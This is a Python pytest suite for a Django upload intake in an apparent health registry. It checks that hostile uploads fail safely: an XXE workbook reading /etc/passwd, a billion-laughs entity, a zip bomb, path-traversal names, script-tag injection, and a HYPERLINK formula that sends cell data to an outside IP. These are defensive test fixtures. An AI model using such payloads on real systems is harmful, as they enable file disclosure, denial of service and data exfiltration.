"""Files that are sent to harm: each is one sentence on a page, nothing of it is left, nothing is 500."""

import io
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import StopUpload
from django.http import HttpRequest, HttpResponse
from django.test import Client
from django.urls import reverse

from apps.intake import scene
from evenborn.apps import sealed_uploads
from evenborn.apps.intake.models import Batch, BatchState
from evenborn.apps.sealed_uploads import SealedUpload, SealedUploadHandler
from people import browser_of, clerk

pytestmark = pytest.mark.django_db(databases="__all__")

GOOD = scene.delivery([scene.row(1)])


@pytest.fixture
def desk() -> Client:
    """The clerk of Niwu, with a hospital in the list."""
    scene.sender()
    return browser_of(clerk())


def sent(desk: Client, content: bytes, name: str = "三月.csv", kind: str = "text/csv") -> HttpResponse:
    """Send the form of the page."""
    told = {"sender": scene.sender().pk, "register": "delivery", "legal_basis": "maternal-health"}
    file = SimpleUploadedFile("file", content, kind)
    file._name = name  # a browser may send any name; Django's own class would already cut it
    return desk.post(reverse("intake-send"), {**told, "file": file})


def batches() -> list[Batch]:
    return list(Batch.objects.regardless("a scene of a test"))


def workbook(sheet: bytes, **parts: bytes) -> bytes:
    """A workbook of one sheet with other parts."""
    from openpyxl import Workbook

    made, out = io.BytesIO(), io.BytesIO()
    Workbook().save(made)
    with zipfile.ZipFile(made) as given, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for name in given.namelist():
            book.writestr(name, sheet if name.endswith("sheet1.xml") else parts.get(name, given.read(name)))
    return out.getvalue()


XXE = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">
<c r="A1" t="inlineStr"><is><t>&secret;</t></is></c></row></sheetData></worksheet>"""
LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">
<c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>"""


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (workbook(XXE), "xxe.xlsx"),
        (workbook(LAUGHS), "laughs.xlsx"),
        (workbook(b"\0" * (300 << 20)), "bomb.xlsx"),
        (b"PK\3\4" + bytes(40), "broken.xlsx"),
        (b"%PDF-1.7 " + bytes(200), "letter.pdf"),
        (b"MZ" + bytes(300), "program.csv"),
        (b"\xff\xfe\x00\xd8" * 50, "surrogates.csv"),
        (b'{"resourceType":"Bundle","entry":' + b"[" * 5000, "deep.json"),
        (b"a,b\r\n" + b"x" * (3 << 19), "line.csv"),
    ],
    ids=lambda given: given if isinstance(given, str) else "",
)
def test_a_file_sent_to_harm_becomes_a_sentence(
    desk: Client, content: bytes, name: str, office: Path
) -> None:
    answer = sent(desk, content, name)
    assert answer.status_code in (200, 302)
    (batch,) = batches()
    assert batch.state == BatchState.FAILED
    for page in ("intake-batch", "intake-columns"):
        shown = desk.get(reverse(page, args=[batch.pk]))
        assert shown.status_code == 200
        assert "root:" not in shown.content.decode()
    assert "root:" not in str(batch.problem)
    assert sorted(path.name for path in (office / "intake").iterdir()) == [f"{batch.pk}.sealed"]


def test_an_empty_file_is_said_at_its_entry(desk: Client) -> None:
    answer = sent(desk, b"")
    assert answer.status_code == 200
    assert answer.context["form"].errors["file"]
    assert batches() == []


@pytest.mark.parametrize(
    "name",
    ["../../../../etc/passwd", "..\\..\\windows\\三月.csv", "a\0b.csv", "x" * 500 + ".csv", "/三月.csv"],
)
def test_a_name_with_folders_stays_a_name(desk: Client, name: str, office: Path) -> None:
    sent(desk, GOOD, name)
    for batch in batches():
        assert not set("/\\\0") & set(batch.file_name)
        assert len(batch.file_name) <= 200
        assert batch.state == BatchState.CHECKED
        assert (office / "intake" / f"{batch.pk}.sealed").is_file()
    assert not (office.parent / "etc").exists()


def test_markup_in_headers_and_names_is_only_text(desk: Client) -> None:
    mark = "<script>alert(1)</script>"
    sent(desk, GOOD.replace("孕周".encode(), mark.encode()), "b<script>.csv")
    for page in ("intake-batch", "intake-columns"):
        shown = desk.get(reverse(page, args=[batches()[0].pk])).content.decode()
        assert mark not in shown
        assert "b<script>" not in shown


def parquet(headers: Sequence[str]) -> bytes:
    """A good birth under some headers, with a column that no register has."""
    out = io.BytesIO()
    pq.write_table(pa.table([[cell] for cell in (*scene.row(1), "x")], names=[*headers, "备\0注"]), out)
    return out.getvalue()


def book(headers: Sequence[str]) -> bytes:
    """The same as a workbook, in which Excel writes a NUL as ``_x0000_``."""
    from openpyxl import Workbook

    made, out = Workbook(), io.BytesIO()
    made.active.append([*(header.replace("\0", "_x0000_") for header in headers), "备_x0000_注"])
    made.active.append([*scene.row(1), "x"])
    made.save(out)
    return out.getvalue()


@pytest.mark.parametrize("known", ["登记号", "登记\0号", "编\0码"])
@pytest.mark.parametrize(("written", "name"), [(parquet, "a.parquet"), (book, "a.xlsx")])
def test_a_nul_in_a_header_is_left_out_for_no_database_of_the_office_may_fail_on_it(
    desk: Client, written: Callable[[Sequence[str]], bytes], name: str, known: str
) -> None:
    sent(desk, written([known, *scene.HEADER[1:]]), name)
    (batch,) = batches()
    if known == "编\0码":  # an officer says what it is
        assert batch.state == BatchState.FAILED
        form = desk.get(reverse("intake-columns", args=[batch.pk])).context["form"]
        named = {name: form.fields[name].initial for name in form.fields}
        desk.post(reverse("intake-columns", args=[batch.pk]), {**named, "column_0": "record_number"})
        (batch,) = batches()
    assert (batch.state, batch.rows, batch.rejected) == (BatchState.CHECKED, 1, 0)
    assert batch.reading["headers"][-1] == "备注"
    assert desk.get(reverse("intake-batch", args=[batch.pk])).status_code == 200


def test_a_formula_comes_back_as_text_in_the_workbook(desk: Client) -> None:
    from openpyxl import load_workbook

    bad = [*scene.row(2, born="2025-02-30 10:00")]
    bad[10] = '=HYPERLINK("http://198.51.100.1/"&A1)'
    sent(desk, scene.delivery([bad]))
    answer = desk.post(reverse("intake-bad-rows", args=[batches()[0].pk]))
    sheet = load_workbook(io.BytesIO(b"".join(answer))).active  # type: ignore[call-overload]
    cell = sheet.cell(2, 11)
    assert (cell.value, cell.data_type, cell.hyperlink) == (bad[10], "s", None)


def handler(**user: object) -> SealedUploadHandler:
    """A handler of somebody's request that has begun a file."""
    request = HttpRequest()
    request.user = type("Officer", (), {"is_authenticated": True, **user})()
    made = SealedUploadHandler(request)
    made.new_file("file", "三月.csv", "text/csv", 0)
    return made


def test_what_comes_in_is_sealed_at_once_and_read_as_often_as_wanted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "aside").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "aside"))
    coming, content = handler(), GOOD * 9000
    for start in range(0, len(content), 65536):
        coming.receive_data_chunk(content[start : start + 65536], start)
    upload = coming.file_complete(len(content))
    assert isinstance(upload, SealedUpload)
    assert list((tmp_path / "aside").iterdir()) == [], "the file has no name"
    upload._sealed.seek(0)
    assert "李梅".encode() not in upload._sealed.read()
    assert b"".join(upload.chunks()) == content
    assert upload.read() == content
    upload.close()


def test_who_is_not_logged_in_brings_no_file() -> None:
    with pytest.raises(StopUpload):
        handler(is_authenticated=False)


def test_who_sends_a_few_octets_a_minute_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    coming = handler()
    coming.receive_data_chunk(b"a" * 1000, 0)
    monkeypatch.setattr(sealed_uploads, "GRACE_SECONDS", -1.0)
    monkeypatch.setattr(sealed_uploads, "LEAST_A_SECOND", 1e12)
    with pytest.raises(StopUpload):
        coming.receive_data_chunk(b"a", 1000)
    assert coming._file.closed


def test_an_interrupted_upload_leaves_nothing() -> None:
    coming = handler()
    coming.receive_data_chunk(GOOD, 0)
    coming.upload_interrupted()
    assert coming._file.closed


def test_every_page_takes_files_through_the_sealing_handler() -> None:
    assert [
        f"{SealedUploadHandler.__module__}.{SealedUploadHandler.__qualname__}"
    ] == settings.FILE_UPLOAD_HANDLERS
